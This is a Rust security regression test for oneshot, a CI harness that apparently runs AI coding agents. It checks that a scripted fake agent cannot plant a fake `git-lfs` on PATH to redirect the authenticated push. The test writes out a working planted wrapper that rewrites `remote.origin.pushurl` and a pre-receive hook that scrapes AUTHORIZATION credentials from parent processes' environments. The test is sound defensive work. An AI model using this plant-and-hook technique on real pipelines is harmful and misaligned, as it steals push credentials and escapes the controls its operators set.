//! The Git LFS filter that oneshot passes on from the user's config (`git lfs install`'s exact
//! values) names `git-lfs` by name, so git finds it on PATH, and the job's PATH holds
//! directories the agent can write (on a runner the agent CLI's own `node_modules/.bin`, put
//! first by install-agent; here the fake agent's directory).
//!
//! The attack, which used to work: the session plants a `git-lfs` there
//! and a `.gitattributes` that sends its files through the LFS filter. oneshot restores
//! `.git/config` after the session, then runs `git add --all` for the step commit, which starts
//! the planted `git-lfs` (as a filter: no credential, as documented), which writes
//! `remote.origin.pushurl` into `.git/config` again, after the restore. The authenticated
//! push then goes to a local repository of the agent's, whose `pre-receive` hook reads the
//! pushing git's environment, with the `AUTHORIZATION` header.

use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use serde_json::json;

use crate::agent_fakes::{init, result, write};
use crate::hostile_git::ImplementJob;

#[test]
fn a_planted_git_lfs_cannot_redirect_the_push_after_the_config_is_restored() {
    let Ok(git_lfs) = which::which("git-lfs") else {
        assert!(
            std::env::var_os("CI").is_none(),
            "git-lfs is not installed (apt-get install git-lfs)"
        );
        return;
    };
    let mut job = ImplementJob::new();
    job.w.env.unset("GIT_CONFIG_GLOBAL");
    job.w.env.unset("GIT_CONFIG_NOSYSTEM");
    let installed = Command::new(&git_lfs)
        .arg("install")
        .current_dir(&job.w.env.home)
        .env_clear()
        .envs(job.w.env.vars())
        .output()
        .unwrap();
    assert!(installed.status.success(), "{installed:?}");

    let decoy = job.w.env.root.path().join("decoy.git");
    let stolen = job.w.env.root.path().join("stolen.txt");
    job.w.env.git(
        job.w.env.root.path(),
        ["init", "--quiet", "--bare", decoy.to_str().unwrap()],
    );
    let hook = decoy.join("hooks/pre-receive");
    std::fs::write(
        &hook,
        format!(
            "#!/bin/sh\np=$PPID\nwhile [ \"$p\" -gt 1 ]; do\n  tr '\\0' '\\n' < /proc/$p/environ 2>/dev/null | grep -a -i authorization >> '{}'\n  p=$(awk '{{print $4}}' /proc/$p/stat)\ndone\nexit 0\n",
            stolen.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();

    // The agent's directory on PATH (the fake agent's, as the agent CLI's bin on a runner).
    let agent_bin = job.agent.path.parent().unwrap().display().to_string();
    let planted = format!(
        "#!/bin/sh\ngit config --file '{repo}/.git/config' remote.origin.pushurl '{decoy}' || true\nexec '{real}' \"$@\"\n",
        repo = job.dir.display(),
        decoy = decoy.display(),
        real = git_lfs.display(),
    );
    let plant = format!(
        "printf '%s' \"$PLANTED\" > '{agent_bin}/git-lfs' && chmod +x '{agent_bin}/git-lfs' && \
         printf '*.txt filter=lfs diff=lfs merge=lfs -text\\n' > .gitattributes"
    );
    job.agent.script_for(
        1,
        vec![
            init(),
            json!({"run": ["env", format!("PLANTED={planted}"), "sh", "-c", plant]}),
            write("src/step1.txt", "step 1\n"),
            result("success", false, "Done."),
        ],
    );
    for n in 2..=3 {
        job.agent.script_for(
            n,
            vec![
                init(),
                write(&format!("src/step{n}.txt"), &format!("step {n}\n")),
                result("success", false, "Done."),
            ],
        );
    }
    job.give_to_job_user();
    let out = job.run_implement().output().unwrap();
    let stolen = std::fs::read_to_string(&stolen).unwrap_or_default();
    assert!(
        stolen.is_empty(),
        "a hook of the agent's read the push credential (exit {:?}):\n{stolen}\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
}
